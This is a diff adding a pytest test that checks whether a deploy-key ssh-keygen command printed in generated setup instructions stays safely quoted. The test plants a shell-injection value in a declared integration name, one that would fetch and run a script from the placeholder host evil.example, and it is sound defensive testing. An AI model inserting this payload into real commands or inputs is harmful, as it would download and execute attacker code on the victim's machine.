@@ -3,6 +3,8 @@ fails, every slot gets instructions."""
 
 from __future__ import annotations
 
+import shlex
+
 import pytest
 
 from scm_access.declarations.loader import load_project
@@ -83,3 +85,24 @@ def test_summary_reports_every_platform_skipped(run):
     assert summary["provisioned_slots"] == 0 and summary["resources"] == 0
     assert set(summary["status"]) == {"missing"}
     assert all(state.startswith("skipped: no ") for state in summary["platforms"].values())
+
+
+def test_deploy_key_fallback_command_keeps_declared_text_as_one_argument(tmp_path):
+    """A name written to break out of the command is one argument to ssh-keygen, not a command."""
+    hostile = "CI'; curl -s https://evil.example/x | sh; echo '"
+    (tmp_path / "connections").mkdir()
+    (tmp_path / "connections" / "hostile.py").write_text(
+        "from scm_access.declarations import Connection, GitHubAccess, ServiceIdentity\n"
+        "CONNECTION = Connection(\n"
+        f"    name='sync', integration={hostile!r}, owner='team', purpose='Pushes release bumps.',\n"
+        "    access=[GitHubAccess(scopes=['contents:write'], org='acme', repositories=['platform-config'],\n"
+        "                         holder=ServiceIdentity(service='release-workflow'))],\n"
+        ")\n"
+    )
+    run = run_program({}, config={"declarations": str(tmp_path)})
+    markdown = run.value("sync")["instructions"]
+    (line,) = [line for line in markdown.splitlines() if "ssh-keygen" in line]
+    printed = line[line.index("`") + 1 : line.rindex("`")]
+    assert shlex.split(printed) == [
+        "ssh-keygen", "-t", "ed25519", "-N", "", "-C", f"{hostile} (sync)", "-f", "platform-config-deploy-key"
+    ]
